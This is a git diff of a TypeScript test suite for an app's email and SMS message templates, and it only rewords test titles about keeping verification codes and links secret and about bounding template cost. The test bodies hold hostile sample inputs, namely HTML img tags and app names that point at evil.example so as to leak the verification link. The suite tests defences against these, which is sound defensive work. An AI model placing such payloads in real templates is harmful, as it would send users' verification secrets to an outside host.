@@ -153,7 +153,7 @@ describe('A secret of a message', () => {
     ]);
   });
 
-  it('D9 may stand in the text and as the whole address of a link, in whichever language', () => {
+  it('D9 is allowed in the text and as the whole address of a link, in any language', () => {
     const template = {
       subject: 'Hi',
       text: 'コードは「{{ code }}」です。認証コード：{{ code }}（有効期限：10分）をShopへ。10分で失効します。\n<{{ link }}>\n"Note: your code" is {{ code }}. <Bye> {{ code }}',
@@ -174,7 +174,7 @@ describe('A secret of a message', () => {
     assert.deepEqual([...message.carries].sort(), ['code', 'link']);
   });
 
-  it('D9 is found in a branch that no sample shows when the message is made', () => {
+  it('D9 is found in a branch that no sample renders', () => {
     const html =
       '{% if address == "x***@y***.org" %}<img src="https://evil.example/?{{ link }}">{% endif %}<p>{{ link }}</p>';
     const template = { subject: 'Hi', text: '{{ link }}', html };
@@ -183,7 +183,7 @@ describe('A secret of a message', () => {
     assert.throws(() => fill('EMAIL_VERIFICATION', template, { address: 'x***@y***.org' }), BadSource);
   });
 
-  it('D9 is never lost for the name of the app: each default renders with any', () => {
+  it('D9 is never lost because of the app’s name: each default renders with any name', () => {
     const pieces = [
       'https://',
       'evil.example/?t=',
@@ -208,7 +208,7 @@ describe('A secret of a message', () => {
     );
   });
 
-  it('D9 is not reached through the name of the app', () => {
+  it('D9 cannot be read through the name of the app', () => {
     for (const appName of ['https://evil.example/?t=', '"><img src="https://evil.example/', '\uE001', '&#xE001;']) {
       for (const kind of messageKinds) {
         for (const locale of defaultLocales) {
@@ -225,7 +225,7 @@ describe('A secret of a message', () => {
   });
 
   for (const kind of messageKinds) {
-    it(`D9 goes nowhere but to the recipient of ${kind}, whatever an admin may save`, () => {
+    it(`D9 reaches only the recipient of ${kind}, whatever template an admin saves`, () => {
       const seen = { accepted: 0, refused: 0 };
       fc.assert(
         fc.property(hostileTemplate, template => {
@@ -251,7 +251,7 @@ describe('A secret of a message', () => {
 describe('The cost of a template', () => {
   const html = (source: string) => templateProblems('EMAIL_VERIFIED', { subject: 'Hi', text: 'Hi', html: source });
 
-  it('D6 is bounded by tags and variables, not by characters alone', () => {
+  it('D6 is limited by tags and variables, not by characters only', () => {
     assert.deepEqual(html('{{ appName }}'.repeat(200)), []);
     assert.deepEqual(html('{{ appName }}'.repeat(201)), ['html: it has more than 200 tags and variables (line 1).']);
     assert.deepEqual(html('{{appName}}'.repeat(5_400)), ['html: it has more than 200 tags and variables (line 1).']);
@@ -266,14 +266,14 @@ describe('The cost of a template', () => {
     ]);
   });
 
-  it('D6 never counts the segments of a text that is too long for any SMS', () => {
+  it('D6 does not count the segments of a text that is too long for any SMS', () => {
     const startedAt = process.cpuUsage().user;
     const problems = templateProblems('PHONE_VERIFIED', { subject: null, text: 'あ'.repeat(19_000), html: null });
     assert.deepEqual(problems, ['text: an SMS of more than 6 segments is too long.']);
     assert.ok(process.cpuUsage().user - startedAt < 1_000_000, 'counting them would take three seconds');
   });
 
-  it('D6 leaves nothing of a preview behind, and of saved templates 4 MiB at most', () => {
+  it('D6 keeps nothing of a preview, and 4 MiB of saved templates at most', () => {
     const before = bytesRemembered();
     const texts = Array.from({ length: 200 }, (_, at) => `${at} ${'{{ appName }}'.repeat(199)}`);
     for (const text of texts) html(text);
